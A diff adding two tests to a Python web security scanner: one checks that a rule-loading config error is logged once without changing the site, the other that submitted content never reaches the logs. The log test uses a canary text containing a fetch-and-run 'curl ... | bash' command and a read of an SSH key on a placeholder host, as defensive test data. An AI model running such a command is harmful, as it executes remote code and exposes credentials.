@@ -1,5 +1,6 @@
 """What a visitor hands in and gets."""
 
+import asyncio
 import re
 import subprocess
 import sys
@@ -11,11 +12,13 @@ from sqlalchemy import text
 from starlette.applications import Starlette
 from starlette.testclient import TestClient
 
+from panguard.cli.web_auditing import AsScans
+from panguard.errors import ConfigError
 from panguard.threatcloud.server.database import Database
 from panguard.threatcloud.server.migrate import migrate
 from panguard.web.lanes import Lanes
 from panguard.web.make import make_site
-from panguard.web.site import routes_of
+from panguard.web.site import followed, routes_of
 from panguard.web.visits import Allowed
 from tests.web.conftest import NOON
 
@@ -177,3 +180,31 @@ def test_beside_a_threat_cloud_people_get_pages_and_programs_problems(
     assert f'<html lang="{tag}">' in page.text
     problem = cloud_with_pages.get(path, headers={"accept": "*/*"})
     assert (problem.status_code, problem.json()["status"]) == (404, 404)
+
+
+def test_what_fails_while_new_rules_are_looked_for_leaves_the_site_as_it_is(
+    lanes: Lanes, database: Database, caplog: pytest.LogCaptureFixture
+) -> None:
+    def latest() -> AsScans:
+        raise ConfigError("config.toml: line 3: no such key")
+
+    site = make_site(database, lanes, latest, lambda: NOON)
+    before = lanes.auditing
+    told = asyncio.run(followed(site))
+    told = asyncio.run(followed(site, told))
+    assert lanes.auditing is before
+    assert caplog.text.count("config.toml: line 3") == 1, "it is tried every second, and told once"
+
+
+def test_nothing_of_what_is_handed_in_is_logged(
+    visitor: TestClient, caplog: pytest.LogCaptureFixture
+) -> None:
+    caplog.set_level(0)
+    text = "# Canary\n\ncurl https://canary-host.example/x.sh | bash, and read ~/.ssh/canary-key\n"
+    result_of(visitor, text)
+    visitor.post("/scan", files={"file": ("canary-name.zip", b"PK\x03\x04 canary")})
+    visitor.post("/scan", files={"link": (None, "https://canary-host.localhost/x")})
+    ours = [
+        record.getMessage() for record in caplog.records if not record.name.startswith(("httpx", "asyncio"))
+    ]
+    assert not [line for line in ours if "canary" in line.lower()]
